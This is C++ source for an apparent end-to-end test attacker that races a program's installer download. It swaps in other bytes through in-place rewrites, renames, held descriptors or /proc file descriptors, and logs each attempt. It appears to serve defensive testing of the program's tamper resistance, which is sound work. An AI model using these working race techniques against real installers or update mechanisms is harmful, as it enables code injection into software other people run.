// Another process of the same user, racing the program for the installer it runs. It starts
// the program (as a launcher would), watches the temporary directory with inotify and puts
// other bytes where the installer was, on the events the program's own actions raise:
//
//   in-place  on the program's permission change: rewrites the file through its path
//   rename    on that change: renames a file it made in the private directory over it
//   held      on that change: writes through a descriptor it opened during the download,
//             then closes it
//   proc      from the private directory's start: writes through every descriptor of the
//             program that names an in-memory file, and of its children that names that or
//             the installer, found in /proc/<pid>/fd (a #! installer's interpreter reads its
//             script through one)
//
// The first three need the installer in the private directory; when it never shows there,
// the report says so at the end.
//
//   naib-e2e-attacker MODE GENUINE EVIL REPORT -- PROGRAM [ARGUMENT...]
//
// GENUINE and EVIL are files of one length; only the bytes from the first that differs are
// written. What it tried and what the system answered goes to REPORT, one line each. Exits
// with the program's status (128 + the signal when a signal ended it).

#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include <vector>

namespace {

std::string readAll(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

struct Attack {
  std::string mode;
  std::string evil;
  std::size_t from = 0;  // the first byte where the evil bytes differ
  std::ofstream report;
  pid_t program = 0;
  std::string privateDir;
  int held = -1;
  bool scanning = false;  // the proc attack has begun
  bool struck = false;
  bool installerSeen = false;
  std::set<std::string> tried;  // /proc targets, each tried once

  std::string installer() const { return privateDir + "/installer"; }

  void note(const std::string& what, bool ok) {
    report << what << ": " << (ok ? "done" : std::strerror(errno)) << std::endl;
  }

  bool writeEvil(int fd) const {
    const std::size_t length = evil.size() - from;
    return ::pwrite(fd, evil.data() + from, length, static_cast<off_t>(from)) ==
           static_cast<ssize_t>(length);
  }

  void onInstallerCreated() {
    installerSeen = true;
    if (mode != "held" || held >= 0) return;
    held = ::open(installer().c_str(), O_WRONLY | O_CLOEXEC);
    note("held open", held >= 0);
  }

  void onPrivateDir(int inotifyFd, const std::string& dir) {
    privateDir = dir;
    scanning = mode == "proc";
    ::inotify_add_watch(inotifyFd, dir.c_str(), IN_CREATE | IN_ATTRIB);
    if (mode == "rename") {
      std::ofstream(dir + "/.evil", std::ios::binary) << evil;
      ::chmod((dir + "/.evil").c_str(), 0755);
    }
    if (::access(installer().c_str(), F_OK) == 0) onInstallerCreated();
  }

  void strike() {
    if (struck || mode == "proc") return;
    struck = true;
    if (mode == "in-place") {
      const int fd = ::open(installer().c_str(), O_WRONLY | O_CLOEXEC);
      note("rewrite in place", fd >= 0 && writeEvil(fd));
      if (fd >= 0) ::close(fd);
    } else if (mode == "rename") {
      note("rename over", ::rename((privateDir + "/.evil").c_str(), installer().c_str()) == 0);
    } else if (mode == "held") {
      note("write through the held descriptor", held >= 0 && writeEvil(held));
      // Closed at once: while it is open for writing, nobody can start the file.
      ::close(held);
    }
  }

  std::vector<pid_t> programAndChildren() const {
    std::vector<pid_t> pids{program};
    DIR* proc = ::opendir("/proc");
    while (dirent* entry = proc ? ::readdir(proc) : nullptr) {
      if (std::strspn(entry->d_name, "0123456789") != std::strlen(entry->d_name)) continue;
      const std::string stat = readAll(std::string("/proc/") + entry->d_name + "/stat");
      const std::size_t close = stat.rfind(')');
      if (close == std::string::npos) continue;
      int parent = 0;
      if (std::sscanf(stat.c_str() + close + 1, " %*c %d", &parent) == 1 && parent == program)
        pids.push_back(std::atoi(entry->d_name));
    }
    if (proc) ::closedir(proc);
    return pids;
  }

  void scanProc() {
    for (pid_t pid : programAndChildren()) {
      const std::string fds = "/proc/" + std::to_string(pid) + "/fd";
      DIR* dir = ::opendir(fds.c_str());
      if (!dir) {
        if (tried.insert(fds).second) note("list " + fds, false);
        continue;
      }
      while (dirent* entry = ::readdir(dir)) {
        const std::string link = fds + "/" + entry->d_name;
        char target[512];
        const ssize_t n = ::readlink(link.c_str(), target, sizeof target - 1);
        if (n < 0 && errno == EACCES && tried.insert(fds).second) note("read " + fds, false);
        if (n <= 0) continue;
        const std::string name(target, static_cast<std::size_t>(n));
        // The program's own descriptor of the file reaches no more than its path does.
        const bool wanted =
            name.rfind("/memfd:", 0) == 0 || (name == installer() && pid != program);
        if (!wanted || !tried.insert(link + " " + name).second) continue;
        const int fd = ::open(link.c_str(), O_WRONLY | O_CLOEXEC);
        note("write through " + link + " (" + name + ")", fd >= 0 && writeEvil(fd));
        if (fd >= 0) ::close(fd);
      }
      ::closedir(dir);
    }
  }

  void onEvents(int inotifyFd, int tmpWatch, const std::string& tmp) {
    alignas(inotify_event) char buffer[4096];
    ssize_t n;
    while ((n = ::read(inotifyFd, buffer, sizeof buffer)) > 0) {
      for (char* p = buffer; p < buffer + n;) {
        const auto* event = reinterpret_cast<const inotify_event*>(p);
        p += sizeof(inotify_event) + event->len;
        const std::string name = event->len ? event->name : "";
        if (event->wd == tmpWatch) {
          if ((event->mask & IN_ISDIR) && name.rfind("naib-", 0) == 0 && privateDir.empty())
            onPrivateDir(inotifyFd, tmp + "/" + name);
          continue;
        }
        if (name != "installer") continue;
        if (event->mask & IN_CREATE) onInstallerCreated();
        if (event->mask & IN_ATTRIB) strike();
      }
    }
  }
};

int statusOf(int status) {
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 7 || std::strcmp(argv[5], "--") != 0) return 2;
  Attack attack;
  attack.mode = argv[1];
  const std::string genuine = readAll(argv[2]);
  attack.evil = readAll(argv[3]);
  attack.report.open(argv[4], std::ios::app);
  while (attack.from < genuine.size() && genuine[attack.from] == attack.evil[attack.from])
    ++attack.from;

  const char* tmpdir = std::getenv("TMPDIR");
  const std::string tmp = tmpdir && *tmpdir ? tmpdir : "/tmp";
  const int inotifyFd = ::inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
  const int tmpWatch = ::inotify_add_watch(inotifyFd, tmp.c_str(), IN_CREATE | IN_ONLYDIR);
  attack.program = ::fork();
  if (attack.program == 0) {
    ::execv(argv[6], argv + 6);
    ::_exit(127);
  }
  for (;;) {
    pollfd watch{inotifyFd, POLLIN, 0};
    // The proc attack polls: nothing announces a descriptor.
    ::poll(&watch, 1, attack.scanning ? 1 : 20);
    attack.onEvents(inotifyFd, tmpWatch, tmp);
    if (attack.scanning) attack.scanProc();
    int status = 0;
    if (::waitpid(attack.program, &status, WNOHANG) == attack.program) {
      if (!attack.installerSeen && attack.mode != "proc")
        attack.report << "installer: never in the private directory" << std::endl;
      return statusOf(status);
    }
  }
}
